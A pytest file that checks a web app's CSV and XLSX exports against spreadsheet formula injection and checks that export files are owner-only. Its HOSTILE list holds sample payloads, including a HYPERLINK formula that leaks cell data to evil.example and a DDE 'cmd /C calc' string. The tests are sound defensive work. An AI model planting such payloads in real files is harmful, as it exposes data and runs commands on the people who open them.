"""Export files are safe to open: CSV cells a spreadsheet would run as formulas
are quoted as text (OWASP: a leading single quote) on SQLite's Python writer and
PostgreSQL's COPY alike, XLSX writes such text as strings, and every export file
is readable by its owner only."""

from __future__ import annotations

import csv
import io
import os
import stat
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from app import auth
from app.db import db
from app.exports import files, pg_copy, service
from app.exports.writers import write_csv, write_xlsx
from app.models import Export, Post
from tests.exports.conftest import TRICKY_BODIES

WHEN = datetime(2026, 11, 21, 12, 30, 45, 123456, tzinfo=UTC)
# (body, as a CSV export must give it back)
HOSTILE = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("https://evil.example/?"&A1,"open")', '\'=HYPERLINK("https://evil.example/?"&A1,"open")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    # only the first character counts
    ("a=1+1", "a=1+1"),
    (" =1", " =1"),
    ("", ""),
]  # fmt: skip


def _csv_bodies(data: bytes) -> list[str]:
    header, *rows = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
    assert header == ["id", "body", "created_at"]
    return [row[1] for row in rows]


def test_csv_quotes_every_cell_a_spreadsheet_would_run(tmp_path):
    path = tmp_path / "out.csv"

    write_csv(
        str(path), service.COLUMNS, [[(n, body, WHEN) for n, (body, _) in enumerate(HOSTILE)]]
    )

    assert _csv_bodies(path.read_bytes()) == [expected for _, expected in HOSTILE]


def test_csv_quotes_a_lone_cr_so_the_record_stays_whole(tmp_path):
    path = tmp_path / "out.csv"

    write_csv(str(path), ("id", "body"), [[(1, "one\rtwo"), (2, "")]])

    assert path.read_bytes() == b'id,body\n1,"one\rtwo"\n2,""\n'


def test_xlsx_writes_formula_like_text_as_strings_never_formulas(tmp_path):
    path = tmp_path / "out.xlsx"

    write_xlsx(str(path), ("id", "body"), [[(n, body) for n, (body, _) in enumerate(HOSTILE)]])

    with zipfile.ZipFile(path) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    rows = list(load_workbook(path).active.iter_rows(min_row=2, min_col=2, max_col=2))
    hostile = [cell for (cell,) in rows if cell.value]
    assert hostile and {cell.data_type for cell in hostile} == {"s"}
    assert hostile[0].value == "=1+1"  # the text as it was, shown, not run


@pytest.mark.postgres
def test_postgres_copy_writes_the_same_csv_as_the_python_writer(live_app, tmp_path):
    with live_app.app_context():
        user = auth.create_user("cells@example.com", "a long enough password")
        bodies = [body for body, _ in HOSTILE] + TRICKY_BODIES
        db.session.add_all(Post(user_id=user.id, body=body, created_at=WHEN) for body in bodies)
        db.session.commit()
        from_copy, from_python = tmp_path / "copy.csv", tmp_path / "python.csv"

        # When both backends' writers export the same posts
        pg_copy.write_posts_csv(str(from_copy), user.id, lambda rows: None)
        write_csv(str(from_python), service.COLUMNS, service._post_batches(user.id))

    # Then the files are the same, byte for byte, with the formulas quoted
    assert from_copy.read_bytes() == from_python.read_bytes()
    assert _csv_bodies(from_copy.read_bytes())[: len(HOSTILE)] == [e for _, e in HOSTILE]


@pytest.fixture()
def lax_umask():
    """The usual 022, under which a plain open() creates files 0644."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_export_files_are_readable_by_their_owner_only(
    app, client, user, lax_umask, stub_broker, stub_worker, fmt
):
    _, headers = user
    created = client.post("/api/exports", json={"kind": "posts", "format": fmt}, headers=headers)
    stub_broker.join("exports", fail_fast=True)
    stub_worker.join()

    with app.app_context():
        export = db.session.get(Export, created.json["export_id"])
        assert export.status == "succeeded"
        mode = stat.S_IMODE(files.file_path(export).stat().st_mode)
    assert mode == 0o600, oct(mode)
